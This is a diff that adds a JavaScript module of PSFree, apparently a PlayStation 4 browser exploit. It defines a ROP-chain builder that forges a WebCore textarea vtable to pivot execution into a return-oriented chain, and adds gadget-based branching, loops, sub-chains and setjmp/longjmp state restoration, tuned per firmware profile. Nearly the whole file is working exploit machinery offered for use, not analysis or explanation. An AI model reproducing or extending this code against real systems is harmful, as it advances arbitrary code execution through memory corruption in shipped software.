@@ -0,0 +1,606 @@
+/* Copyright (C) 2023 anonymous
+
+This file is part of PSFree.
+
+PSFree is free software: you can redistribute it and/or modify
+it under the terms of the GNU Affero General Public License as
+published by the Free Software Foundation, either version 3 of the
+License, or (at your option) any later version.
+
+PSFree is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU Affero General Public License for more details.
+
+You should have received a copy of the GNU Affero General Public License
+along with this program.  If not, see <https://www.gnu.org/licenses/>.  */
+
+// Base class of the userland ROP chains of rop.mjs
+//
+// Chain803 of rop.mjs launches the chain with its JOP chain, everything else
+// about the chain is here so that it can be tested offline with the emulator,
+// see tools/test_rop.mjs. What differs between the firmwares comes from the
+// profile passed to Chain803Base.init_class(), see module/profiles.mjs.
+
+import { Int } from './int64.mjs';
+import { ChainBase, argument_pops } from './chain.mjs';
+import { get_view_vector } from './memtools.mjs';
+import { define_struct } from './struct.mjs';
+import { rop_epilogue } from './rop_gadgets.mjs';
+import * as rw from './rw.mjs';
+
+// see the disassembly of setjmp() from the dump of libSceLibcInternal.sprx
+//
+// int setjmp(jmp_buf)
+// noreturn longjmp(jmp_buf)
+//
+// This version of longjmp() does not take another argument to be used as
+// setjmp()'s return value. Offset 0 of the jmp_buf will be the restored
+// rax. Change it if you want a specific value from setjmp() after the
+// longjmp().
+//
+// It saves all the general purpose registers, not only the callee-saved ones.
+// Only the offsets of rax, rcx, rsp and rip were checked against the
+// disassembly, the other registers are assumed to be in the same order as
+// the known ones (rax, rbx, rcx, rdx, rsi, rdi, rbp, rsp, r8-r15). The chains
+// of test_rop() in rop.mjs rely on rsi surviving a push_restore().
+export const jmp_buf_t = define_struct('jmp_buf', {
+    rax : 'u64',
+    rbx : 'u64',
+    rcx : 'u64',
+    rdx : 'u64',
+    rsi : 'u64',
+    rdi : 'u64',
+    rbp : 'u64',
+    rsp : 'ptr',
+    r8 : 'u64',
+    r9 : 'u64',
+    r10 : 'u64',
+    r11 : 'u64',
+    r12 : 'u64',
+    r13 : 'u64',
+    r14 : 'u64',
+    r15 : 'u64',
+    // return address
+    rip : 'ptr',
+}, 0xc8);
+
+// size of the stack used by the calls of chains with labels, see
+// Chain803Base.push_call()
+const call_stack_size = 0x10000;
+
+export class Chain803Base extends ChainBase {
+    constructor() {
+        super();
+
+        // for conditional jumps
+        this._clean_branch_ctx();
+        this.flag = new Uint8Array(8);
+        this.flag_addr = get_view_vector(this.flag);
+        const jop = this.profile.jop;
+        this.jmp_target = new Uint8Array(0x100);
+        rw.write64(
+            this.jmp_target,
+            this.profile.pivot_slot,
+            this.get_gadget(jop.jop4),
+        );
+        rw.write64(this.jmp_target, 0, this.get_gadget(jop.jop5));
+
+        // for save/restore
+        this.is_saved = false;
+        this.jmp_buf = new Uint8Array(this.profile.jmp_buf_size);
+        this.jmp_buf_p = get_view_vector(this.jmp_buf);
+
+        // for jumps, loops and sub-chains
+        this._clean_flow_ctx();
+        this.call_stack = new Uint8Array(call_stack_size);
+        this.call_stack_addr = get_view_vector(this.call_stack);
+    }
+
+    // Returns the fake vtable for the WebCore textarea that starts the JOP
+    // chain. Calling the function at offset profile.vtable.scroll_left of it
+    // with rsi set to the JS wrapper of the textarea pivots to the ROP chain,
+    // see rop_gadgets.mjs. The chain keeps the other buffers of the JOP chain
+    // alive.
+    make_vtable() {
+        const {jop, vtable: slots, rax_ptrs: ptrs} = this.profile;
+
+        // Only the scrollLeft getter slot will be used when calling the
+        // native function (our tests don't crash).
+        //
+        // This implies we don't need to know the exact size of the vtable and
+        // try to copy it as much as possible to avoid a crash due to missing
+        // vtable entries.
+        //
+        // So the rest of the vtable are free for our use.
+        const vtable = new Uint8Array(0x200);
+        rw.write64(vtable, slots.scroll_left, this.get_gadget(jop.ta_jop1));
+        rw.write64(vtable, slots.ta_jop2, this.get_gadget(jop.ta_jop2));
+        rw.write64(vtable, slots.ta_jop3, this.get_gadget(jop.ta_jop3));
+
+        const rax_ptrs = new Uint8Array(0x100);
+        this.rax_ptrs = rax_ptrs;
+        rw.write64(rax_ptrs, ptrs.jop2, this.get_gadget(jop.jop2));
+        rw.write64(rax_ptrs, ptrs.jop3, this.get_gadget(jop.jop3));
+        rw.write64(rax_ptrs, ptrs.jop4, this.get_gadget(jop.jop4));
+        rw.write64(rax_ptrs, ptrs.jop5, this.get_gadget(jop.jop5));
+        // value to pivot rsp to
+        rw.write64(rax_ptrs, ptrs.rsp, this.stack_addr);
+
+        const jop_buffer = new Uint8Array(8);
+        this.jop_buffer = jop_buffer;
+        rw.write64(jop_buffer, 0, get_view_vector(rax_ptrs));
+        // for ta_jop3
+        rw.write64(vtable, 8, get_view_vector(jop_buffer));
+
+        return vtable;
+    }
+
+    _buffer_names() {
+        return super._buffer_names().concat([
+            ['flag_addr', this.flag_addr],
+            ['jmp_target', get_view_vector(this.jmp_target)],
+            ['jmp_buf_p', this.jmp_buf_p],
+        ]);
+    }
+
+    // pushes the address of the label if value is a label name
+    _push_operand(value) {
+        if (typeof value === 'string') {
+            this.push_label_addr(value);
+        } else {
+            this.push_value(value);
+        }
+    }
+
+    // addr and value may be label names
+    push_write64(addr, value) {
+        this.push_gadget('pop rdi; ret');
+        this._push_operand(addr);
+        this.push_gadget('pop rsi; ret');
+        this._push_operand(value);
+        this.push_gadget('mov qword ptr [rdi], rsi; ret');
+    }
+
+    // Calls made once the chain has a label use a separate stack, the call
+    // stack. A called function overwrites the stack below its stack pointer,
+    // which is the part of the chain before the call if we call on the ROP
+    // stack. That part may run again if the chain jumps back to a label (the
+    // syscall wrappers overwrite it on error for example).
+    //
+    // clobbers rdi, rsi before setting the arguments
+    //
+    // The frame is written to the call stack at runtime as the function may
+    // overwrite it:
+    //
+    //     func_addr          <- rsp before the call, 16-byte aligned
+    //     add rsp, <n>; ret  // only if there are stack arguments, see
+    //     arg 7              // ChainBase.push_call()
+    //     ...
+    //     pop rsp; ret       // the return address, pivots back
+    //     <address of the rest of the chain>
+    push_call(func_addr, ...args) {
+        if (this.labels.size === 0) {
+            super.push_call(func_addr, ...args);
+            return;
+        }
+
+        const reg_args = args.slice(0, argument_pops.length);
+        const stack_args = args.slice(argument_pops.length);
+        const frame = [func_addr];
+        if (stack_args.length !== 0) {
+            const cleanup = this.get_stack_cleanup(stack_args.length);
+            frame.push(this.get_gadget(cleanup.gadget));
+            for (let i = 0; i < cleanup.slots; i++) {
+                frame.push(new Int(i < stack_args.length ? stack_args[i] : 0));
+            }
+        }
+        const next = this.new_label();
+        frame.push(this.get_gadget('pop rsp; ret'), next);
+
+        let offset = call_stack_size - frame.length * 8;
+        offset -= this.call_stack_addr.add(offset).low() & (0x10 - 1);
+        const frame_addr = this.call_stack_addr.add(offset);
+
+        for (let i = 0; i < frame.length; i++) {
+            this.push_write64(frame_addr.add(i * 8), frame[i]);
+        }
+        for (let i = 0; i < reg_args.length; i++) {
+            this.push_gadget(argument_pops[i]);
+            this.push_constant(reg_args[i]);
+        }
+        this.push_gadget('pop rsp; ret');
+        this.push_value(frame_addr);
+        this.label(next);
+    }
+
+    // sequence to pivot back and return
+    push_end() {
+        this.push_gadget(rop_epilogue);
+    }
+
+    check_is_branching() {
+        if (this.is_branch_ctx) {
+            throw Error('chain is still branching, end it before running');
+        }
+        if (this.subchain !== null) {
+            throw Error(
+                `sub-chain ${this.subchain.name} not ended, end it before`
+                + ' running'
+            );
+        }
+    }
+
+    push_value(value) {
+        super.push_value(value);
+
+        if (this.is_branch_ctx) {
+            this.branch_position += 8;
+        }
+    }
+
+    _clean_branch_ctx() {
+        this.is_branch_ctx = false;
+        this.branch_position = null;
+        this.delta_slot = null;
+        this.rsp_slot = null;
+        this.rsp_position = null;
+    }
+
+    _clean_flow_ctx() {
+        // the counters of loop(), kept alive until the chain is cleaned
+        this.loop_counters = [];
+        // {name, end} of the sub-chain being pushed
+        this.subchain = null;
+    }
+
+    clean() {
+        super.clean();
+        this._clean_branch_ctx();
+        this._clean_flow_ctx();
+        this.is_saved = false;
+    }
+
+    // Use start_branch() and end_branch() to delimit a ROP chain that will
+    // conditionally execute. rax must be set accordingly before the branch.
+    // rax == 0 means execute the conditional chain.
+    //
+    // example that always execute the conditional chain:
+    //     chain.push_gadget('mov rax, 0; ret');
+    //     chain.start_branch();
+    //     chain.push_gadget('pop rbx; ret'); // always executed
+    //     chain.end_branch();
+    start_branch() {
+        if (this.is_branch_ctx) {
+            throw Error('chain already branching, end it first');
+        }
+        this.note('start_branch()');
+
+        // clobbers rax, rcx, rdi, rsi
+        //
+        // u64 flag = 0 if -rax == 0 else 1
+        // *flag_addr = flag
+        this.push_gadget('pop rcx; ret');
+        this.push_constant(-1);
+        this.push_gadget('neg rax; ret');
+        this.push_gadget('pop rsi; ret');
+        this.push_constant(0);
+        this.push_gadget('adc esi, esi; ret');
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov qword ptr [rdi], rsi; ret');
+
+        // clobbers rax, rcx, rdi
+        //
+        // rax = *flag_addr
+        // rcx = delta
+        // rax = -rax & rcx
+        // *flag_addr = rax
+        this.push_gadget('pop rax; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov rax, qword ptr [rax]; ret');
+
+        // dummy value, overwritten later by end_branch()
+        this.push_gadget('pop rcx; ret');
+        this.delta_slot = this.position;
+        this.note_slot(this.delta_slot, 'branch delta, set by end_branch()');
+        this.push_constant(0);
+
+        this.push_gadget('neg rax; and rax, rcx; ret');
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+
+        // clobbers rax, rcx, rdx, rsi
+        //
+        // rcx = rsp_position
+        // rsi = rsp
+        // rcx += rsi
+        // rdx = rcx
+        //
+        // dummy value, overwritten later at the end of start_branch()
+        this.push_gadget('pop rcx; ret');
+        this.rsp_slot = this.position;
+        this.note_slot(this.rsp_slot, 'branch rsp offset');
+        this.push_constant(0);
+
+        this.push_gadget('pop rsi; ret');
+        this.push_value(this.stack_addr.add(this.position + 8));
+
+        // rsp collected here, start counting how much to perturb rsp
+        this.branch_position = 0;
+        this.is_branch_ctx = true;
+
+        this.push_gadget('add rcx, rsi; and rdx, rcx; or rax, rdx; ret');
+        this.push_gadget('mov rdx, rcx; ret');
+
+        // clobbers rax
+        //
+        // rax = *flag_addr
+        this.push_gadget('pop rax; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov rax, qword ptr [rax]; ret');
+
+        // clobbers rax
+        //
+        // rax += rdx
+        // new_rsp = rax
+        this.push_gadget('add rax, rdx; ret');
+
+        // clobbers rdi
+        //
+        // for debugging, save new_rsp to flag_addr so we can verify it later
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+
+        // clobbers rdx, rcx
+        //
+        // rdx = rax
+        this.push_gadget('pop rcx; ret');
+        this.push_constant(0);
+        this.push_gadget('mov rdx, rax; xor eax, eax; shl rdx, cl; ret');
+
+        this._push_pivot_rdx();
+
+        this.rsp_position = this.branch_position;
+        rw.write64(this.stack, this.rsp_slot, new Int(this.rsp_position));
+    }
+
+    end_branch() {
+        if (!this.is_branch_ctx) {
+            throw Error('can not end nonbranching chain');
+        }
+
+        const delta = this.branch_position - this.rsp_position;
+        rw.write64(this.stack, this.delta_slot, new Int(delta));
+        this._clean_branch_ctx();
+        this.note('end_branch()');
+    }
+
+    // clobbers rax, rdx, rdi or rsi (what profile.jop.pivot pops), rsp
+    //
+    // rsp = rdx
+    _push_pivot_rdx() {
+        this.push_gadget('pop rax; ret');
+        this.push_value(get_view_vector(this.jmp_target));
+        this.push_gadget(this.profile.jop.pivot);
+        this.push_constant(0); // padding for the push
+    }
+
+    // The jumps below pivot rsp to the address of a label. Unlike
+    // start_branch()/end_branch(), they can jump backwards and the label can
+    // be anywhere in the chain, see ChainBase.label().
+    //
+    // example that retries until connect() succeeds:
+    //     chain.label('retry');
+    //     chain.push_syscall('connect', sd, addr_p, addr_len);
+    //     chain.jump_if_not_zero('retry');
+
+    // clobbers nothing
+    jump(name) {
+        this.push_gadget('pop rsp; ret');
+        this.push_label_addr(name);
+    }
+
+    // clobbers rax, rcx, rdx, rsi, rdi
+    //
+    // rsp = zero if rax == 0 else nonzero
+    _push_select(zero, nonzero) {
+        // rsi = 0 if rax == 0 else 1
+        // *flag_addr = rsi
+        this.push_gadget('neg rax; ret');
+        this.push_gadget('pop rsi; ret');
+        this.push_constant(0);
+        this.push_gadget('adc esi, esi; ret');
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov qword ptr [rdi], rsi; ret');
+
+        // rax = -*flag_addr & (nonzero - zero)
+        this.push_gadget('pop rax; ret');
+        this.push_value(this.flag_addr);
+        this.push_gadget('mov rax, qword ptr [rax]; ret');
+        this.push_gadget('pop rcx; ret');
+        this.push_label_ref(
+            () => this.label_addr(nonzero).sub(this.label_addr(zero)),
+            `jump delta, ${nonzero} - ${zero}`,
+        );
+        this.push_gadget('neg rax; and rax, rcx; ret');
+
+        // rdx = rax + zero
+        this.push_gadget('pop rdx; ret');
+        this.push_label_addr(zero);
+        this.push_gadget('add rax, rdx; ret');
+        this.push_gadget('pop rcx; ret');
+        this.push_constant(0);
+        this.push_gadget('mov rdx, rax; xor eax, eax; shl rdx, cl; ret');
+
+        this._push_pivot_rdx();
+    }
+
+    // clobbers rax, rcx, rdx, rsi, rdi
+    jump_if_zero(name) {
+        const next = this.new_label();
+        this._push_select(name, next);
+        this.label(next);
+    }
+
+    // clobbers rax, rcx, rdx, rsi, rdi
+    jump_if_not_zero(name) {
+        const next = this.new_label();
+        this._push_select(next, name);
+        this.label(next);
+    }
+
+    // Runs the chain pushed by body() count times, count >= 1. body() is
+    // called once with no arguments. The counter is in memory so the body
+    // can clobber any register.
+    //
+    // clobbers rax, rcx, rdx, rsi, rdi
+    //
+    // example that creates 0x100 kqueues:
+    //     chain.loop(0x100, () => {
+    //         chain.push_syscall('kqueue');
+    //     });
+    loop(count, body) {
+        if (!Number.isInteger(count) || count < 1 || count > 0xffffffff) {
+            throw RangeError(`invalid loop count: ${count}`);
+        }
+        const counter = new Uint8Array(8);
+        const counter_addr = get_view_vector(counter);
+        this.loop_counters.push(counter);
+
+        this.note(`loop(${count})`);
+        // set at runtime so the chain can be run again
+        this.push_write64(counter_addr, new Int(count));
+        const start = this.new_label();
+        this.label(start);
+
+        body();
+
+        // rax = --*counter_addr
+        this.push_gadget('pop rax; ret');
+        this.push_value(counter_addr);
+        this.push_gadget('mov rax, qword ptr [rax]; ret');
+        this.push_gadget('pop rdx; ret');
+        this.push_constant(-1);
+        this.push_gadget('add rax, rdx; ret');
+        this.push_gadget('pop rdi; ret');
+        this.push_value(counter_addr);
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+
+        this.jump_if_not_zero(start);
+        this.note(`end of loop(${count})`);
+    }
+
+    // A sub-chain is a part of the chain that is called from other parts
+    // with push_call_subchain(). The chain jumps over it when it is reached
+    // normally. It has a single slot for the return address, so it must not
+    // call itself.
+    //
+    // example:
+    //     chain.start_subchain('store_rax');
+    //     chain.push_get_retval();
+    //     chain.end_subchain();
+    //     chain.push_syscall('getpid');
+    //     chain.push_call_subchain('store_rax');
+    start_subchain(name) {
+        if (this.subchain !== null) {
+            throw Error(
+                `sub-chain ${this.subchain.name} not ended, end it first`
+            );
+        }
+        const end = this.new_label();
+        this.jump(end);
+        this.label(name);
+        this.subchain = {name, end};
+    }
+
+    end_subchain() {
+        if (this.subchain === null) {
+            throw Error('no sub-chain to end');
+        }
+        const {name, end} = this.subchain;
+        this.push_gadget('pop rsp; ret');
+        // the return address, written by push_call_subchain()
+        this.label(`${name}.ret`);
+        this.note_slot(this.position, 'set by push_call_subchain()');
+        this.push_constant(0);
+        this.label(end);
+        this.subchain = null;
+    }
+
+    // clobbers rdi, rsi
+    push_call_subchain(name) {
+        const next = this.new_label();
+        this.push_write64(`${name}.ret`, next);
+        this.jump(name);
+        this.label(next);
+    }
+
+    // clobbers rax, rdi, rsi
+    push_save() {
+        if (this.is_saved) {
+            throw Error('restore first before saving again');
+        }
+        this.note('push_save()');
+        this.push_call(this.get_gadget('setjmp'), this.jmp_buf_p);
+        this.is_saved = true;
+    }
+
+    // Force a push_restore() if at runtime you can ensure the save/restore
+    // pair line up.
+    push_restore(is_force=false) {
+        if (!this.is_saved && !is_force) {
+            throw Error('save first before restoring');
+        }
+        this.note('push_restore()');
+        // modify jmp_buf.rsp
+        this.push_gadget('pop rax; ret');
+        const rsp_slot = this.position;
+        this.note_slot(rsp_slot, 'jmp_buf.rsp, set by push_restore()');
+        // dummy value, overwritten later at the end of push_restore()
+        this.push_constant(0);
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.jmp_buf_p.add(jmp_buf_t.offsetof('rsp')));
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+
+        // modify jmp_buf.return_address
+        this.push_gadget('pop rax; ret');
+        this.push_value(this.get_gadget('ret'));
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.jmp_buf_p.add(jmp_buf_t.offsetof('rip')));
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+
+        this.push_call(this.get_gadget('longjmp'), this.jmp_buf_p);
+
+        // Padding as longjmp() pushes the rdi and return address in the
+        // jmp_buf at the target rsp.
+        this.push_constant(0);
+        this.push_constant(0);
+        const target_rsp = this.stack_addr.add(this.position);
+
+        rw.write64(this.stack, rsp_slot, target_rsp);
+        this.is_saved = false;
+    }
+
+    push_get_retval() {
+        this.push_gadget('pop rdi; ret');
+        this.push_value(this.retval_addr);
+        this.push_gadget('mov qword ptr [rdi], rax; ret');
+    }
+
+    // Like ChainBase.init_class(), profile is the firmware profile from
+    // module/profiles.mjs. The gadget map must have the gadgets of
+    // profile.jop.
+    static init_class(gadgets, syscall_array, profile) {
+        if (profile.jmp_buf_size < jmp_buf_t.sizeof) {
+            throw RangeError(
+                `jmp_buf of ${profile.id} too small: ${profile.jmp_buf_size}`
+            );
+        }
+        super.init_class(gadgets, syscall_array);
+        this.prototype.profile = profile;
+    }
+}